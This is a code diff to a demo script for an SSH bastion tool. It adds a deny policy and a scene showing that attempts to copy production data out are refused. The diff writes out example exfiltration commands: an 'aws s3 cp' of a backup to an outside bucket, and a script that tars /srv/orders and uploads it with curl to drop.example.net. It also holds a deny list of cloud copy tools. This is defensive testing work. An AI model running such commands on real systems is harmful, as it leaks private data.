@@ -23,6 +23,22 @@ from bastion.demo.stage import Stage
 from bastion.environment import child_environment
 
 STEP_S = 30
+POLICY = """\
+[[rule]]
+id = "deployers-work-on-web"
+verdict = "allow"
+when = { groups = ["ci"], targets = ["glob:web-*"], access = ["exec", "sftp"] }
+
+[[rule]]
+id = "no-copies-to-object-storage"
+verdict = "deny"
+when = { groups = ["ci"], labels = { env = "prod" } }
+match = [
+  { program = ["aws", "gsutil", "az", "rclone"], args_any = ["cp", "sync", "mv", "glob:upload*"] },
+  { contacts = "glob:*", reads = ["glob:/srv/orders/**", "glob:/srv/backups/**", "/srv/orders"] },
+]
+reason = "production data does not leave through a pipeline"
+"""
 
 
 class StoryBroke(Exception):
@@ -35,7 +51,7 @@ def play(*, folder: Path | None, keep: bool) -> int:
         program(name, "openssh-client")
     made = folder is None
     place = folder or Path(tempfile.mkdtemp(prefix="bastion-demo-"))
-    stage = Stage(place.absolute())
+    stage = Stage(place.absolute(), policy=POLICY)
     try:
         _say("Setting the stage: an OIDC issuer, an SSH host called web-1, and the bastion, all on loopback.")
         stage.set()
@@ -65,6 +81,7 @@ class _Story:
         self._certificate()
         self._work()
         self._stranger()
+        self._exfiltration()
         session = self._read_back()
         self._prove(session)
         _say("\nEvery step did what it claims.")
@@ -100,17 +117,34 @@ class _Story:
         _scene("3. A job of an unknown repository gets no certificate")
         self._run("ssh-keygen -q -t ed25519 -N '' -f stranger")
         self._token("unknown", "stranger-token")
-        _out, err, status = self._execute(
+        _out, err, status = self._denied(
             "ssh -F ssh_config -i stranger login@bastion certificate < stranger-token > stranger-cert.pub"
         )
-        click.echo(err, nl=False)
-        click.echo(f"(exit status {status})")
         _claim(status != 0 and "repository_id" in err, "the refusal names the claim that did not match")
 
+    def _exfiltration(self) -> None:
+        _scene("4. Production data does not leave: every statement is judged before it runs")
+        self._run("bastion policy check ../policy.toml", shows=False)
+        _out, err, status = self._denied(
+            "ssh -F ssh_config web-1 'aws s3 cp /srv/backups/orders.sql.gz s3://elsewhere/'"
+        )
+        _claim(
+            status == 126 and "denied by no-copies-to-object-storage" in err,
+            "the copy is denied before anything of it reaches the target",
+        )
+        (self._stage.job / "cleanup.sh").write_text(
+            "echo cleaning up\ntar cz /srv/orders | curl -sS -T - https://drop.example.net/\necho never said\n"
+        )
+        out, _err, status = self._denied("ssh -F ssh_config web-1 bash -s < cleanup.sh")
+        _claim(
+            (out, status) == ("cleaning up\n", 126),
+            "a script stops at its denied line, and what follows never runs",
+        )
+
     def _read_back(self) -> str:
-        _scene("4. Who did what, where, and what went over the wire")
+        _scene("5. Who did what, where, and what went over the wire")
         out = self._run("bastion sessions")
-        _claim(out.count("orders-deployer") == 3, "every session is there")
+        _claim(out.count("orders-deployer") == 5, "every session is there")
         sessions = json.loads(self._run("bastion sessions --json | tee sessions.json", shows=False))
         script = next(row["id"] for row in sessions if row["exit_status"] == 0 and row["access"] == "exec")
         out = self._run(f"bastion replay {script}")
@@ -125,7 +159,7 @@ class _Story:
         return str(script)
 
     def _prove(self, session: str) -> None:
-        _scene("5. Proof: the record is whole; one flipped byte is found")
+        _scene("6. Proof: the record is whole; one flipped byte is found")
         out = self._run("bastion verify --all")
         _claim("everything holds" in out, "the record verifies")
         self._run("bastion keys seal > seal.jwks", shows=False)
@@ -165,6 +199,13 @@ class _Story:
         if ended != status:
             raise StoryBroke(f"{command}\nended with {ended} where {status} was expected\n{err}")
         return out
+
+    def _denied(self, command: str) -> tuple[str, str, int]:
+        """Run a command that may be refused, and print all that it said."""
+        out, err, ended = self._execute(command)
+        click.echo(out + err, nl=False)
+        click.echo(f"(exit status {ended})")
+        return out, err, ended
 
     def _execute(self, command: str) -> tuple[str, str, int]:
         click.secho(f"$ {command}", bold=True)
